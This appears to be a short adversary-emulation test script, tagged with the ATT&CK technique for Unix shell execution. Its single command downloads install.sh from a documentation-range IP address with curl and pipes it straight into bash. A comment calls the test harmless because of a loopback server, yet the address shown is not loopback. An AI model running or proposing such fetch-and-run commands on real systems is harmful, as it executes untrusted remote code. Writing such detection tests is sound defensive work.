#!/bin/bash
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell
# tactic: execution
# user: alice
# needs: curl
# does: pipes a downloaded script into a shell
# harmless: the server that answers is a script on the loopback device, and what it sends only runs id and uname

curl -fsSL http://203.0.113.66/install.sh | bash
